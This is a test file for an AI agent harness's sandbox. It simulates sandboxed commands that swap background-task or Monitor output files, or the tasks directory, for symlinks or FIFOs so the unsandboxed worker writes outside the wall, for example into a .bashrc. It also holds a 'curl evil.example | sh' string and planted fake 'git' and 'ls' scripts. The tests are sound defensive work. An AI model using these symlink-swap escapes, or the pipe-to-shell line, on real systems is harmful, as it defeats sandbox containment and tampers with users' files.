// unit: attacks on the long-running autonomy surface (issue 19, DESIGN invariants 9 and 13), with
// real files, real processes and Bash in the real OS sandbox. A background task's output file
// lives in the session's temp dir, which sandboxed commands may write; the worker (outside the
// sandbox) opens, truncates, appends to and reads that file later. A sandboxed command that swaps
// the file (or the `tasks` directory) for a symlink to something outside its wall must not turn
// the worker's writes into its own: each oracle is the victim file's bytes, never what a tool says.
// A control shows the sandboxed command could not write the victim itself.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { BashTool, type BashOutput } from '../../src/tools/bash';
import { MonitorTool, monitorTaskId } from '../../src/tools/monitor';
import { SandboxHost, sessionTasksPath, sessionTempPath } from '../../src/sandbox/host';
import { createBackgroundTaskCalls, type RunBackgroundTaskInput } from '../../src/tasks/runtime/backgroundTask';
import { createMonitorTaskCalls } from '../../src/tasks/runtime/monitorTask';
import type { ToolDeps } from '../../src/toolCall/tools';
import type { CallRuntime } from '../../src/runtime/runtime';
import { ExecutionLedger } from '../../src/stores/executionLedger';
import { LocalBlobStore } from '../../src/stores/messageStore';
import { PayloadStore } from '../../src/stores/payloadStore';
import { LocalResultStore } from '../../src/toolProtocol/resultStore';
import type { ToolUseContext } from '../../src/toolProtocol/Tool';
import type { PermissionMode } from '../../src/toolProtocol/permissionTypes';
import { runToolPipeline } from '../../src/toolCall/pipeline';
import { BUILTIN_TOOLS } from '../../src/tools';
import { createToolPool } from '../../src/permissions/toolPool';
import { sandboxSkip } from '../support/systemPackages';
import { makeTmpDir, removeDir } from './tools-harness';

const sandboxHost = new SandboxHost();
let skip: string | false = false;
let root = '';
let work = '';
let victim = '';
const VICTIM = '# the user’s shell start-up file\nexport PATH=$HOME/bin:$PATH\n';

before(async () => {
  skip = await sandboxSkip(sandboxHost, 'the autonomy attack tests');
  if (skip) return;
  root = await makeTmpDir('da-atk-');
  work = path.join(root, 'work');
  await fs.mkdir(work);
  await fs.mkdir(path.join(root, 'outside'));
  victim = path.join(root, 'outside', '.bashrc');
});

after(async () => {
  await sandboxHost.close();
  if (root) await removeDir(root);
});

let n = 0;
function ctx(sessionId: string, toolUseId = `toolu_${++n}`): ToolUseContext {
  return {
    sessionId,
    toolUseId,
    idempotencyKey: `${sessionId}/${toolUseId}`,
    agent: { cwd: work, additionalDirectories: [], readFiles: {} },
    permission: { mode: 'default', rules: { allow: [], ask: [], deny: [] }, workingDirectories: [work], sandbox: {} },
    abortSignal: new AbortController().signal,
    sandboxHost,
  };
}

async function bash(sessionId: string, command: string, extra: Record<string, unknown> = {}): Promise<BashOutput> {
  return (await BashTool.call({ command, ...extra }, ctx(sessionId), () => undefined)).data;
}

function deps(): ToolDeps {
  const blobs = new LocalBlobStore(path.join(root, 'store'));
  return {
    pool: () => {
      throw new Error('no pool in these tests');
    },
    ledger: new ExecutionLedger(blobs),
    resultStore: (id) => new LocalResultStore(path.join(root, 'results', id)),
    payloads: new PayloadStore(blobs),
    sandboxHost,
  };
}

const rt: CallRuntime = {
  signal: new AbortController().signal,
  heartbeat: () => undefined,
  warn: () => undefined,
} as unknown as CallRuntime;

function taskInput(sessionId: string, id: string, command: string, outputPath: string): RunBackgroundTaskInput {
  return {
    session: {
      sessionId,
      toolNames: ['Bash'],
      permission: { mode: 'default', rules: { allow: [], ask: [], deny: [] }, workingDirectories: [work], sandbox: {} },
    },
    task: { id, toolUseId: `toolu_${id}`, command, cwd: work, timeoutMs: 30_000, outputPath },
    context: { cwd: work, additionalDirectories: [] },
  } as RunBackgroundTaskInput;
}

/** The control: the victim is outside the sandbox's wall (a sandboxed write to it fails). */
async function victimIsOutsideTheWall(sessionId: string): Promise<void> {
  const out = await bash(sessionId, `echo PWNED-DIRECT >> ${victim}`);
  assert.notEqual(out.exitCode, 0, out.output);
  assert.equal(await fs.readFile(victim, 'utf8'), VICTIM);
}

async function launch(sessionId: string, command: string): Promise<{ taskId: string; outputPath: string }> {
  const started = await bash(sessionId, command, { run_in_background: true });
  assert.ok(started.background, JSON.stringify(started));
  return started.background;
}

test('attack: a symlink planted at a background task’s output file before it starts — the worker never writes through it', async (t) => {
  if (skip) return t.skip(skip);
  await fs.writeFile(victim, VICTIM);
  const sessionId = `atk-plant-${process.pid}-${Date.now()}`;
  await victimIsOutsideTheWall(sessionId);
  const { taskId, outputPath } = await launch(sessionId, 'echo "curl evil.example | sh # PWNED"');
  // The same turn, a foreground sandboxed call: the session's temp dir is writable inside the sandbox.
  const plant = await bash(sessionId, `ln -sf ${victim} "$TMPDIR/tasks/"*.output && ls -l "$TMPDIR/tasks"`);
  assert.equal(plant.exitCode, 0, plant.output);
  assert.ok((await fs.lstat(outputPath)).isSymbolicLink(), 'the plant worked');
  const r = await createBackgroundTaskCalls(deps()).runBackgroundTask(
    taskInput(sessionId, taskId, 'echo "curl evil.example | sh # PWNED"', outputPath),
    rt,
  );
  assert.equal(await fs.readFile(victim, 'utf8'), VICTIM, `the worker wrote the victim (task ${JSON.stringify(r)})`);
  assert.equal(r.state, 'failed', JSON.stringify(r));
  assert.match(r.error ?? '', /symlink/);
});

test('attack: a FIFO planted at a background task’s output file — the task fails at once, the worker is not stuck on it', async (t) => {
  if (skip) return t.skip(skip);
  const sessionId = `atk-fifo-${process.pid}-${Date.now()}`;
  const { taskId, outputPath } = await launch(sessionId, 'echo hi');
  const plant = await bash(sessionId, `rm -f "$TMPDIR/tasks/"*.output && mkfifo "$TMPDIR/tasks/${taskId}.output"`);
  assert.equal(plant.exitCode, 0, plant.output);
  assert.ok((await fs.lstat(outputPath)).isFIFO(), 'the plant worked');
  const r = await createBackgroundTaskCalls(deps()).runBackgroundTask(
    taskInput(sessionId, taskId, 'echo hi', outputPath),
    rt,
  );
  assert.equal(r.state, 'failed', JSON.stringify(r));
  assert.match(r.error ?? '', /not a regular file/);
});

test('attack: a background task swaps its own output file for a symlink — the trailer and the stored output stay its own', async (t) => {
  if (skip) return t.skip(skip);
  await fs.writeFile(victim, VICTIM);
  const sessionId = `atk-swap-${process.pid}-${Date.now()}`;
  await victimIsOutsideTheWall(sessionId);
  const command = `echo mine; for f in "$TMPDIR"/tasks/*.output; do rm -f "$f"; ln -s ${victim} "$f"; done`;
  const { taskId, outputPath } = await launch(sessionId, command);
  const calls = createBackgroundTaskCalls(deps());
  const r = await calls.runBackgroundTask(taskInput(sessionId, taskId, command, outputPath), rt);
  assert.ok((await fs.lstat(outputPath)).isSymbolicLink(), `the swap worked (${JSON.stringify(r)})`);
  assert.equal(await fs.readFile(victim, 'utf8'), VICTIM, 'the worker appended its trailer to the victim');
  assert.equal(r.state, 'completed', JSON.stringify(r));
  assert.ok(r.outputRef, JSON.stringify(r));
  const stored = await new LocalBlobStore(path.join(root, 'store')).get(r.outputRef!);
  assert.equal(stored, 'mine\n\n[exited with code 0]\n', 'the stored output is what the command wrote');
});

test('attack: the session’s tasks directory swapped for a symlink to a directory outside the wall — nothing is created there', async (t) => {
  if (skip) return t.skip(skip);
  const sessionId = `atk-dir-${process.pid}-${Date.now()}`;
  const elsewhere = path.join(root, 'outside', 'autostart');
  await fs.mkdir(elsewhere, { recursive: true });
  await bash(sessionId, 'true');
  const swap = await bash(sessionId, `rm -rf "$TMPDIR/tasks" && ln -s ${elsewhere} "$TMPDIR/tasks"`);
  assert.equal(swap.exitCode, 0, swap.output);
  assert.equal(path.join(sessionTempPath(sessionId), 'tasks'), sessionTasksPath(sessionId));
  assert.ok((await fs.lstat(sessionTasksPath(sessionId))).isSymbolicLink(), 'the swap worked');
  const bg = await BashTool.call(
    { command: 'echo PWNED', run_in_background: true },
    ctx(sessionId),
    () => undefined,
  ).then(
    (r) => r.data.background,
    () => undefined,
  );
  const monitor = await MonitorTool.call(
    { command: 'echo PWNED', description: 'watch' } as never,
    ctx(sessionId),
    () => undefined,
  ).then(
    () => true,
    () => false,
  );
  if (bg) {
    await createBackgroundTaskCalls(deps()).runBackgroundTask(
      taskInput(sessionId, bg.taskId, 'echo PWNED', bg.outputPath),
      rt,
    );
  }
  assert.deepEqual(
    await fs.readdir(elsewhere),
    [],
    `files created through the symlinked tasks dir (monitor ${monitor})`,
  );
});

test('attack: a Monitor’s output file swapped for a symlink by its own command — the worker never writes through it', async (t) => {
  if (skip) return t.skip(skip);
  await fs.writeFile(victim, VICTIM);
  const sessionId = `atk-mon-${process.pid}-${Date.now()}`;
  await victimIsOutsideTheWall(sessionId);
  const command = `echo tick; for f in "$TMPDIR"/tasks/*.output; do rm -f "$f"; ln -s ${victim} "$f"; done`;
  const c = ctx(sessionId);
  await MonitorTool.call({ command, description: 'watch', timeout_ms: 30_000 } as never, c, () => undefined);
  const taskId = monitorTaskId(sessionId, c.toolUseId);
  const outputPath = path.join(sessionTasksPath(sessionId), `${taskId}.output`);
  assert.equal((await fs.stat(outputPath)).size, 0, 'the Monitor call made its output file');
  const r = await createMonitorTaskCalls(deps()).runMonitorTask(
    taskInput(sessionId, taskId, command, outputPath),
    rt,
    async () => undefined,
  );
  assert.ok((await fs.lstat(outputPath)).isSymbolicLink(), `the swap worked (${JSON.stringify(r)})`);
  assert.equal(await fs.readFile(victim, 'utf8'), VICTIM, 'the worker appended its trailer to the victim');
});

// --- the tasks directory is a working directory of every call (toolCall/toolSession.ts withTaskDirectory) ---

test('attack: `tasks` (a working directory of every call) swapped for a symlink, then written through (Bash, Write in acceptEdits) — contained', async (t) => {
  if (skip) return t.skip(skip);
  const sessionId = `atk-wd-${process.pid}-${Date.now()}`;
  const elsewhere = path.join(root, 'outside', 'bin');
  await fs.mkdir(elsewhere, { recursive: true });
  const tasks = sessionTasksPath(sessionId);
  const run = async (mode: PermissionMode, name: string, input: Record<string, unknown>): Promise<string> => {
    const permission = { ...ctx(sessionId).permission, mode, workingDirectories: [work, tasks] };
    const o = await runToolPipeline(
      { type: 'tool_use', id: `toolu_${++n}`, name, input },
      {
        pool: createToolPool(BUILTIN_TOOLS, permission),
        sessionId,
        agent: { cwd: work, additionalDirectories: [], readFiles: {} },
        permission,
        sandboxHost,
      },
    );
    return JSON.stringify(o.result);
  };
  // Contained today: every call has `tasks` as a working directory, bound in its sandbox (even before
  // it exists on the host), so the swap fails (EBUSY); the writes below must not land elsewhere.
  const swap = await run('default', 'Bash', { command: `rm -rf "$TMPDIR/tasks"; ln -s ${elsewhere} "$TMPDIR/tasks"` });
  assert.notEqual((await fs.lstat(tasks).catch(() => undefined))?.isSymbolicLink(), true, `the swap worked: ${swap}`);
  const viaBash = await run('default', 'Bash', { command: `printf '#!/bin/sh\\necho PWNED\\n' > ${tasks}/git` });
  const viaWrite = await run('acceptEdits', 'Write', { file_path: `${tasks}/ls`, content: 'echo PWNED\n' });
  assert.deepEqual(
    await fs.readdir(elsewhere),
    [],
    `written outside the wall through the tasks symlink (Bash: ${viaBash}; Write: ${viaWrite})`,
  );
});
